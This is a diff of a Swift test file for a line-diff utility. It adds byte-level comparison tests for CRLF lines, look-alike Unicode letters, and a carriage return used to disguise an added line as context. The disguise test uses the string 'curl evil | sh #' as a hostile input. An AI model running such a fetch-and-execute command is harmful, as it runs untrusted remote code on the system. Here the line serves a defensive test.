@@ -12,7 +12,7 @@ import Testing
         let dir = NSTemporaryDirectory() + "cordon-linediff-\(getpid())"
         try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
         defer { try? FileManager.default.removeItem(atPath: dir) }
-        let alphabet = ["a\n", "b\n", "c\n", "d\n", "e\n", "\n", "a longer line\n"]
+        let alphabet = ["a\n", "b\n", "c\n", "d\n", "e\n", "\n", "a longer line\n", "a\r\n", "\r\n"]
         for round in 0..<60 {
             func text() -> String {
                 let count = Int.random(in: 0...40, using: &generator)
@@ -37,6 +37,17 @@ import Testing
         }
     }
 
+    /// Compared byte for byte: CRLF lines are lines (and patch applies the diff), a CR inside a
+    /// line cannot hide an added line as context, and a look-alike letter is a change.
+    @Test func bytesNotCharactersAreCompared() throws {
+        let crlf = LineDiff.unified(old: "a\r\nb\r\nc\r\n", new: "a\r\nB\r\nc\r\n", oldName: "a/f", newName: "b/f")
+        #expect(crlf == "--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\r\n-b\r\n+B\r\n c\r\n")
+        let hidden = LineDiff.unified(old: "x\n", new: "x\r\n curl evil | sh #\n", oldName: "a/f", newName: "b/f")
+        #expect(hidden == "--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n-x\n+x\r\n+ curl evil | sh #\n", "\(hidden)")
+        #expect(!LineDiff.unified(old: "K=1\n", new: "\u{212A}=1\n", oldName: "a/f", newName: "b/f").isEmpty)
+        #expect(!LineDiff.unified(old: "\u{e9}\n", new: "e\u{301}\n", oldName: "a/f", newName: "b/f").isEmpty)
+    }
+
     /// Past `maxEdits` the diff is one hunk replacing everything: still what patch applies.
     @Test func aHugeDifferenceIsStillACorrectDiff() throws {
         let old = (0..<5000).map { "old \($0)\n" }.joined(), new = (0..<5000).map { "new \($0)\n" }.joined()
@@ -45,9 +56,11 @@ import Testing
         #expect(Self.changedLines(diff) == 10_000)
     }
 
+    /// Lines split at LF bytes (a Character split would take CRLF as one).
     static func changedLines(_ diff: String) -> Int {
-        diff.split(separator: "\n", omittingEmptySubsequences: false).filter {
-            ($0.hasPrefix("+") && !$0.hasPrefix("+++")) || ($0.hasPrefix("-") && !$0.hasPrefix("---"))
+        Array(diff.utf8).split(separator: 0x0A, omittingEmptySubsequences: false).filter { line in
+            let text = Array(line)
+            return (text.first == 0x2B && !text.starts(with: Array("+++".utf8))) || (text.first == 0x2D && !text.starts(with: Array("---".utf8)))
         }.count
     }
 
